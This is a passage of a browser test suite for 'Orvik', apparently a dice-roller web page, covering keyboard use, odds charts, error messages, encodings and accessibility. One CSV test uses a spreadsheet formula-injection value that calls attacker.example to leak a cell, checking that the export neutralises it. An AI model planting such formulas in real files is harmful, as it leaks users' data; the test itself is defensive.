    // Cancelled, it reports on the rolls done, as the command does when interrupted.
    await audit(page, () => page.click('#audit-cancel'));
    assert.match(await page.textContent('#audit-status'), /^Stopped/);
    const done = Number(await page.$$eval('#audit-results dl div', (items) =>
      items.find((item) => item.querySelector('dt').textContent === 'rolls').querySelector('.fig').dataset.value));
    assert.ok(done > 0 && done < 10000000, `${done} rolls done`);
    await page.done();
  });

  test('by keyboard alone: a roll, the odds, an audit', async () => {
    const page = await open(fileUrl);
    await page.focus('#roll-text');
    await page.keyboard.press('Control+A');
    await page.keyboard.type('2d6+3');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.querySelectorAll('#history li.roll').length === 1);
    await page.focus('#tab-roll');
    await page.keyboard.press('ArrowRight');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'tab-odds');
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'view-odds');
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'odds-texts');
    await page.keyboard.press('Control+A');
    await page.keyboard.type('d20');
    await page.keyboard.press('Control+Enter');
    await page.waitForFunction(() => document.getElementById('odds-status').textContent === 'Odds of d20.');
    await page.focus('#tab-odds');
    await page.keyboard.press('End');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'tab-audit');
    assert.equal(await page.isVisible('#view-audit'), true);
    await page.focus('#audit-log');
    await page.keyboard.insertText(gameLog);
    for (let i = 0; i < 20 && await page.evaluate(() => document.activeElement.id) !== 'audit-button'; i++) await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'audit-button');
    await audit(page, () => page.keyboard.press('Enter'));
    assert.equal(await page.locator('#audit-results section.card').count(), gameLogAudits());
    await page.done();
  });

  // A chance as the page shows it, rounded.
  const percent = (p) => (p === 0 ? '0%' : p * 100 >= 0.0001
    ? `${(p * 100).toLocaleString('en-US', { minimumFractionDigits: 4, maximumFractionDigits: 4 })}%` : `${(p * 100).toExponential(2)}%`);

  test('after Show odds the chart is in view, the keyboard at its heading, and each total told on hover and on focus', async () => {
    const wanted = nativeJson(['--odds', '--json', '3d6', '4d6-2']);
    const told = (total) => `total ${total}: ${wanted.map((w) => {
      const row = w.totals[total - w.min];
      return row ? `${w.text} ${percent(row.p)}` : null;
    }).filter(Boolean).join('; ')}`;
    for (const [width, height] of [[1280, 800], [360, 740]]) {
      const page = await open(fileUrl, { width, height });
      await page.click('#tab-odds');
      await page.fill('#odds-texts', '3d6\n4d6-2');
      await page.click('#odds-button');
      await page.waitForFunction(() => /^Odds of/.test(document.getElementById('odds-status').textContent));
      await page.waitForFunction(() => document.activeElement.id === 'odds-heading');
      const plot = page.locator('#odds-chart .plot-focus');
      // Before anything is told, focus tells the likeliest total.
      await plot.focus();
      const likeliest = wanted.flatMap((w) => w.totals).reduce((a, b) => (b.p > a.p ? b : a)).total;
      assert.equal(await page.textContent('#odds-chart .readout'), told(likeliest));
      await page.focus('#odds-heading');
      const box = await plot.boundingBox();
      assert.ok(box.y >= 0 && box.y + box.height <= height, `${width}: the chart at ${box.y}..${box.y + box.height} of ${height}`);
      // Hover: across the plot, each place says its total and every text's chance there.
      const seen = new Set();
      for (let k = 0; k < 11; k++) {
        await page.mouse.move(box.x + box.width * (0.2 + (0.75 * k) / 10), box.y + box.height / 2);
        const said = await page.textContent('#odds-chart .readout');
        const total = Number(said.match(/^total (-?\d+):/)[1]);
        assert.equal(said, told(total), `${width}: hover`);
        seen.add(total);
      }
      assert.ok(seen.size >= 8, `${width}: ${seen.size} totals told`);
      // Focus: the place last told, the arrow keys, Home and End; a mark on each text's point.
      await page.mouse.move(0, 0);
      assert.equal(await page.textContent('#odds-chart .readout'), '', 'nothing told once the pointer leaves');
      await plot.focus();
      assert.match(await page.textContent('#odds-chart .readout'), /^total \d+: /);
      await page.keyboard.press('Home');
      assert.equal(await page.textContent('#odds-chart .readout'), told(2));
      await page.keyboard.press('ArrowRight');
      assert.equal(await page.textContent('#odds-chart .readout'), told(3));
      assert.equal(await page.locator('#odds-chart circle.mark[visibility="visible"]').count(), 2, 'a mark on each point told');
      await page.keyboard.press('End');
      assert.equal(await page.textContent('#odds-chart .readout'), told(22));
      assert.equal(await page.locator('#odds-chart circle.mark[visibility="visible"]').count(), 1);
      await page.done();
    }
  });

  test('what was read as free text is said under the answer and the odds\' heading; hints say what Orvik takes', async () => {
    const page = await open(fileUrl);
    const notes = () => page.$$eval('#roll-notes p', (items) => items.map((p) => [p.className, p.textContent]));
    const cases = [
      ['2d6 + 3', [['notice', '+ 3 was read as free text: write 2d6+3']]],
      ['d20 +5 to hit', [['notice', '+5 was read as free text: write d20+5 to hit']]],
      ['3d6 d8+2', [['notice', "d8+2 was read as free text: a text rolls one roll, and a second only as a sneak attack's dice"]]],
      ['D20', [['hint', "Orvik's d is lower-case: write d20"]]],
      ['d%', [['hint', 'Orvik has no d%, but d100: write d100']]],
      ['4d6kh3', [['hint', 'Orvik neither keeps nor drops dice, but sums every die it rolls: write 4d6']]],
      ['2d6+ 3', [['hint', 'A roll has no space inside it: write 2d6+3']]],
      ['d20 to hit', []],
      ['d501', []],
    ];
    for (const [text, said] of cases) {
      await roll(page, text);
      assert.deepEqual(await notes(), said, text);
    }
    // The pieces of a text in a notice are code, as typed.
    await roll(page, '2d6 + 3');
    assert.deepEqual(await page.$$eval('#roll-notes code', (items) => items.map((c) => c.textContent)), ['+ 3', '2d6+3']);
    // The same under the odds' heading, and a refused text's card gives its hint.
    await showOdds(page, ['2d6 + 3', 'D20', '3d6']);
    assert.deepEqual(await page.$$eval('#odds-notices li', (items) => items.map((li) => li.textContent)),
      ['2d6 + 3: + 3 was read as free text: write 2d6+3']);
    assert.equal(await page.textContent('#odds-tables section.card:nth-child(2) .hint'), "Orvik's d is lower-case: write d20");
    await page.done();
  });

  test('an error in a player\'s words beside its field, the stale answer cleared', async () => {
    const page = await open(fileUrl);
    const error = (id) => page.evaluate((field) => {
      const said = document.getElementById(`${field}-error`);
      return said.hidden ? null : [said.textContent, document.getElementById(field).getAttribute('aria-invalid')];
    }, id);
    await roll(page, 'd20');
    // An empty roll: said beside the field, the last answer gone, no history entry.
    await page.fill('#roll-text', '  ');
    await page.press('#roll-text', 'Enter');
    await page.waitForFunction(() => !document.getElementById('roll-text-error').hidden);
    assert.deepEqual(await error('roll-text'), ['Write a roll text first, such as d20+5.', 'true']);
    assert.equal(await page.textContent('#roll-latest'), '');
    assert.equal(await historyCount(page), 1);
    await roll(page, 'd6');
    assert.equal(await error('roll-text'), null);
    // A seed the library refuses, as --seed refuses it: beside the seed, the roll's answer and the
    // seed in use left alone.
    const answer = await page.textContent('#roll-latest');
    const inUse = await page.textContent('#seed-in-use');
    for (const typed of ['abc', '1.5', '4294967296', '0x10', '1e3', ' 16', '+16', '-0', '']) {
      assert.match(native(['--seed', typed, 'd6']).stderr, /^orvik: invalid seed/, `--seed '${typed}' is refused too`);
      await page.fill('#seed', typed);
      await page.press('#seed', 'Enter');
      await page.waitForFunction(() => !document.getElementById('seed-error').hidden);
      assert.deepEqual(await error('seed'), ['Write the seed in digits alone, a whole number from 0 to 4294967295, such as 1234.', 'true'], typed);
      assert.equal(await page.textContent('#roll-latest'), answer);
      assert.equal(await page.textContent('#seed-in-use'), inUse);
      await page.evaluate(() => { document.getElementById('seed-error').hidden = true; });
    }
    // Leading zeros are digits: the seed 16, as --seed 0016 takes it.
    await page.fill('#seed', '0016');
    await page.press('#seed', 'Enter');
    await page.waitForFunction(() => document.getElementById('seed-in-use').textContent === '16');
    assert.equal(await error('seed'), null);
    await roll(page, 'd20');
    assert.equal(await page.textContent('#roll-latest'), native(['--seed', '0016', 'd20']).lines[0]);
    await setSeed(page, 3);
    assert.equal(await error('seed'), null);
    // The questions' fields: what the page takes, and what the library refuses, in a player's words.
    await showOdds(page, ['3d6']);
    const refused = async (setUp, field, said) => {
      await page.click('#tab-odds');
      await setUp();
      await page.click('#odds-button');
      await page.waitForFunction((f) => !document.getElementById(`${f}-error`).hidden, field);
      assert.deepEqual(await error(field), [said, 'true']);
      assert.equal(await page.isHidden('#odds-results'), true, 'the stale odds cleared');
    };
    await refused(async () => {
      await page.check('input[name="question"][value="atleast"]');
      await page.fill('#odds-target', 'abc');
    }, 'odds-target', 'Write the total to reach as a whole number, such as 12.');
    await refused(() => page.fill('#odds-target', '99999999999999999999'), 'odds-target', 'That total is beyond what Orvik counts: write a smaller one.');
    await refused(async () => {
      await page.check('input[name="question"][value="vs"]');
      await page.fill('#odds-vs', ' ');
    }, 'odds-vs', 'Write the roll text to roll against, such as d20.');
    await refused(() => page.fill('#odds-texts', '\n'), 'odds-texts', 'Write a roll text first, one a line, such as 3d6.');
    await page.click('#tab-audit');
    await page.check('input[name="audit-source"][value="rolls"]');
    await page.fill('#audit-rolls', '0');
    await page.click('#audit-button');
    await page.waitForFunction(() => !document.getElementById('audit-rolls-error').hidden);
    assert.deepEqual(await error('audit-rolls'), ['Write how many rolls as a whole number from 1 to 1,000,000,000,000.', 'true']);
    assert.equal(await page.inputValue('#audit-rolls'), '0');
    await page.done();
  });

  test('at 360 px the roll\'s answer is above the fold', async () => {
    const page = await open(fileUrl, { width: 360, height: 740 });
    await roll(page, '3#d20+5 to hit the goblins');
    const box = await page.locator('#roll-latest .answer').boundingBox();
    assert.ok(box.y + box.height <= 740, `the answer ends at ${box.y + box.height} px`);
    await page.done();
  });

  test('the CSV writes a text a spreadsheet would run as a formula with a leading \', and numbers as numbers', async () => {
    const page = await open(fileUrl);
    const texts = ['+1+HYPERLINK("https://attacker.example/?leak="&A1,"click")#d6', '+2#d4 =1+1', 'd2 @x'];
    const wanted = nativeJson(['--odds', '--json', '--', ...texts]);
    await showOdds(page, texts);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#odds-csv')]);
    const csv = fs.readFileSync(await download.path(), 'utf8').trimEnd().split('\r\n');
    const rows = wanted.flatMap((w) => w.totals.map((t) => [w.text, t]));
    assert.equal(csv.length - 1, rows.length);
    rows.forEach(([text, t], k) => {
      const cells = csv[k + 1].match(/^"((?:[^"]|"")*)",(.*)$/);
      const cell = cells[1].replace(/""/g, '"');
      assert.equal(cell, /^[=+\-@\t\r]/.test(text) ? `'${text}` : text, `row ${k + 1}`);
      assert.deepEqual(cells[2].split(',').map(Number), [t.total, t.p, t.at_least, t.at_most]);
      assert.match(cells[2], /^-?\d/, 'numbers unquoted');
    });
    await page.done();
  });

  test('links of thousands of texts: the page answers a click while they load, works out at most 100, and Cancel is heard', async () => {
    const links = [
      ['5,000 texts of d20', Array.from({ length: 5000 }, (_, i) => `d20-${i + 1}`), {}],
      ['400 texts of 30#100d500', Array.from({ length: 400 }, (_, i) => `30#100d500-${i + 1}`), {}],
      ['300 texts against 100d500', Array.from({ length: 300 }, (_, i) => `30#100d500-${i + 1}`), { q: 'vs', vs: '100d500' }],
    ];
    for (const [name, texts, question] of links) {
      const q = new URLSearchParams({ view: 'odds', odds: texts.join('\n'), ...question });
      // Clicks from the moment the page is there until the odds are shown, each timed from its
      // event to its handler.
      // What the browser holds before the page opens: another test's page left open when it
      // failed must not fail this one.
      const before = treeMegabytes();
      const page = await open(`${fileUrl}#${q}`, {
        init: () => {
          window.clickLags = [];
          document.addEventListener('click', (event) => window.clickLags.push(performance.now() - event.timeStamp), true);
        },
      });
      await page.waitForSelector('#exact');
      const box = await page.locator('#exact').boundingBox();
      do {
        await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
        await page.waitForTimeout(30);
      } while (await page.evaluate(() => !/Odds of|^Stopped/.test(document.getElementById('odds-status').textContent)));
      const lags = await page.evaluate(() => window.clickLags);
      // A frozen page holds a click for seconds; how soon it answers is measured (measure.mjs).
      assert.ok(lags.length > 0 && lags.every((lag) => lag < 1000), `${name}: clicks answered after ${lags.map((l) => l.toFixed(0))} ms`);
      assert.match(await page.textContent('#odds-status'), new RegExp(`^The first 100 of ${texts.length.toLocaleString('en-US')} texts: the page works out at most 100 at once\\. Odds of 100 texts`));
      assert.equal(await page.locator('#odds-tables section.card').count(), 100);
      assert.ok(await page.locator('#odds-tables section.card.waiting').count() >= 80, 'cards drawn as they come into view');
      const megabytes = treeMegabytes() - before;
      console.log(`# ${name}: clicks answered ${Math.max(...lags).toFixed(0)} ms at most after they came; Chromium holds ${megabytes.toFixed(0)} MB more than before the page`);
      assert.ok(megabytes < 1000, `${name}: ${megabytes.toFixed(0)} MB more`);
      await page.done();
    }
    // Cancel, while a hundred of the largest are worked out, stops between texts.
    const page = await open(fileUrl);
    await page.click('#tab-odds');
    await page.fill('#odds-texts', Array.from({ length: 100 }, (_, i) => `30#100d500-${i + 1}`).join('\n'));
    await page.click('#odds-button');
    // At once, while the work shows: a loaded machine may report progress only near the end.
    await page.click('#odds-cancel');
    await page.waitForFunction(() => /^Stopped after/.test(document.getElementById('odds-status').textContent));
    assert.match(await page.textContent('#odds-status'), /^Stopped after [\d,]+ of 100 texts\./);
    await page.done();
  });

  // The page's audit of a file against the command's: the summary line (the command names the
  // file by its path, the page by its name) and every text's JSON.
  async function sameAudit(page, file) {
    const command = native(['--audit', '--answers', '--json', file]);
    await audit(page, () => page.setInputFiles('#audit-file', file));
    const summary = command.stderr.trim().replace(/^orvik: /, '').split('\n')[0].replace(file, path.basename(file));
    assert.equal(await page.textContent('#audit-results .summary'), summary, path.basename(file));
    const shown = await page.locator('#audit-results section.card').count();
    assert.equal(shown, command.lines.length, path.basename(file));
  }

  test('the page and the command read every file alike: byte-order marks, UTF-16 and its odd ends, bytes that are no UTF-8', async () => {
    const page = await open(fileUrl);
    await page.click('#tab-audit');
    const line = '<O> Al rolls a d20 and gets 9.';
    const utf16le = (text) => Buffer.from(text, 'utf16le');
    const utf16be = (text) => Buffer.from(text, 'utf16le').swap16();
    const files = [
      ['odd-byte', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(line), Buffer.from([0x41])])],
      ['lone-first-unit', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(line), Buffer.from([0x3c, 0xd8])])],
      ['first-unit-and-byte', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(line), Buffer.from([0x3c, 0xd8, 0x41])])],
      ['big-endian', Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(`${line}\n${line} \ud83c\udfb2\n${line}`)])],
      ['utf8-mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${line}\r\n${line}`)])],
      ['no-utf8', Buffer.concat([Buffer.from(`${line}\nBo rolls d20 \xff\xfe and gets 4.\nBo rolls d20 \xff\xfe and gets 5.\n`, 'latin1')])],
      ['utf16-no-mark', utf16le(`${line}\n`)],
      ['game-utf16', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(gameLog)])],
    ];
    for (const [name, bytes] of files) {
      const file = path.join(os.tmpdir(), `orvik-ends-${process.pid}-${name}.log`);
      fs.writeFileSync(file, bytes);
      try {
        await sameAudit(page, file);
      } finally {
        fs.rmSync(file, { force: true });
      }
    }
    await page.done();
  });

  test('a file over 512 MiB is read in slices, not as empty', async () => {
    // Sparse: the game's log, then holes with a line end each MiB, then the log again; 600 MiB
    // that take a few MB of disk.
    const file = path.join(os.tmpdir(), `orvik-sparse-${process.pid}.log`);
    const fd = fs.openSync(file, 'w');
    try {
      fs.writeSync(fd, gameLog);
      for (let mib = 1; mib < 600; mib++) fs.writeSync(fd, '\n', mib * 1024 * 1024);
      fs.writeSync(fd, `\n${gameLog}`, 600 * 1024 * 1024);
      fs.closeSync(fd);
      const page = await open(fileUrl);
      await page.click('#tab-audit');
      await sameAudit(page, file);
      assert.match(await page.textContent('#audit-results .summary'), /: [\d,]+ lines, 292 answers of 5 roll texts/);
      await page.done();
    } finally {
      fs.rmSync(file, { force: true });
    }
  });

  test('a pasted log over 1 MiB is held as a file, by its name and size, not in the text box', async () => {
    const page = await open(fileUrl);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']).catch(() => {});
    await page.click('#tab-audit');
    const log = gameLog.repeat(Math.ceil((1.5 * 1024 * 1024) / gameLog.length));
    await page.focus('#audit-log');
    await page.evaluate((text) => navigator.clipboard.writeText(text), log);
    await page.keyboard.press('Control+V');
    await page.waitForFunction(() => !document.getElementById('audit-held').hidden);
    assert.equal(await page.textContent('#audit-held-name'), `the pasted log, ${(Buffer.byteLength(log) / 1024 / 1024).toFixed(1)} MB`);
    assert.equal(await page.inputValue('#audit-log'), '');
    assert.equal(await page.isHidden('#audit-log'), true);
    // Switching views costs nothing for it, and the audit is the command's of the same text.
    for (const view of ['roll', 'odds', 'audit']) await page.click(`#tab-${view}`);
    await page.fill('#audit-from', '<Orvik>');
    await audit(page, () => page.click('#audit-button'));
    const { lines, stderr } = native(['--audit', '--answers', '--json', '--from', '<Orvik>'], log);
    assert.equal(await page.textContent('#audit-results .summary'), stderr.trim().replace(/^orvik: standard input/, 'the pasted log'));
    assert.equal(await page.locator('#audit-results section.card').count(), lines.length);
    await page.click('#audit-held-remove');
    assert.equal(await page.isVisible('#audit-log'), true);
    await page.done();
  });

  test('memory running out in a log\'s audit is said as the command says it, above the cards that say which texts', async () => {
    // The library's answer when memory runs out is tested under Node (web/test/input.test.mjs),
    // where the core's memory can be capped; here the audit worker's answer is given that shape
    // on its way to the page, to see the page show it.
    const shortened = () => {
      const Real = window.Worker;
      window.Worker = class extends Real {
        get onmessage() { return super.onmessage; }
        set onmessage(handler) {
          super.onmessage = (event) => {
            const result = event.data && event.data.result;
            if (!result || typeof result.summary !== 'string') return handler(event);
            const untested = (a) => ({ text: a.text, sneak: a.sneak, roller: a.roller, rolls: a.rolls, error: 'memory ran out before they could be tested' });
            const audits = result.audits.map((a) => (a.text === 'd20' ? untested(a) : a));
            return handler({ data: { ...event.data, result: { ...result, audits, untested: 1, outOfMemoryAt: 320 } } });
          };
        }
      };
    };
    for (const [width, height, colorScheme] of [[1280, 800, 'light'], [360, 740, 'dark']]) {
      const page = await open(fileUrl, { width, height, colorScheme, init: shortened });
      await page.waitForFunction(() => /^\d+$/.test(document.getElementById('seed-in-use')?.textContent));
      await page.click('#tab-audit');
      await page.fill('#audit-log', gameLog);
      await page.fill('#audit-from', '<Orvik>');
      await page.check('#audit-by-roller');
      await audit(page, () => page.click('#audit-button'));
      const said = ['Memory ran out at line 320 of the log: the audit is of the lines before it.',
        'Memory ran out before 1 roll text could be tested: the cards say so.'];
      assert.deepEqual(await page.$$eval('#audit-results > p.error', (ps) => ps.map((p) => p.textContent)), said);
      assert.match(await page.textContent('#audit-status'), /^Memory ran out: the audit is of what it could hold, as said below\. Audited /);
      const d20 = page.locator('#audit-results section.card', { has: page.locator('h3 code', { hasText: /^d20$/ }) });
      assert.ok(await d20.count() > 1, 'everyone\'s card and each roller\'s');
      // The d20s of the log, the plain and those moved from d20+5, all the host's.
      const rolls = nativeJson(['--audit', '--answers', '--json', '--from', '<Orvik>'], gameLog).find((a) => a.text === 'd20').rolls;
      assert.equal(await d20.first().locator('p.error').textContent(), `${rolls} rolls: memory ran out before they could be tested`);
      assert.equal(await d20.first().locator('svg').count(), 0);
      await page.evaluate(axeSource);
      await checkWcag(page, 'audit, memory ran out');
      await page.screenshot({ path: path.join(shots, `audit-memory-${width}x${height}-${colorScheme}.png`), fullPage: true });
      await page.done();
    }
  });

  // Each view with its results, light and dark, wide and narrow: no WCAG 2.1 AA violation, no
  // sideways scrolling, and a screenshot to look at.
  for (const colorScheme of ['light', 'dark']) {
    for (const [width, height] of [[1280, 800], [360, 740]]) {
      test(`each view, ${colorScheme}, ${width}x${height}: axe-core finds nothing, nothing scrolls sideways`, async () => {
        const page = await open(fileUrl, { width, height, colorScheme });
        await setSeed(page, 1);
        for (const text of ['d20+5 to hit', '3#2d6+1', 'd6x', '30#d20']) await roll(page, text);
        await showOdds(page, ['3d6', '4d6-2', '2d10+1'], { atLeast: 12 });
        await page.click('#tab-audit');
        await page.fill('#audit-log', gameLog);
        await page.fill('#audit-from', '<Orvik>');
        await audit(page, () => page.click('#audit-button'));
        await page.evaluate(axeSource);
        for (const view of ['roll', 'odds', 'audit']) {
          await page.click(`#tab-${view}`);
          await page.waitForTimeout(150);
          await checkWcag(page, view);
          const wide = await page.evaluate(() => document.documentElement.scrollWidth);
          assert.ok(wide <= width, `${view}: the page is ${wide} px wide in a ${width} px window`);
          await page.screenshot({ path: path.join(shots, `${view}-${width}x${height}-${colorScheme}.png`), fullPage: true });
        }
        await page.done();
      });
    }
  }
});
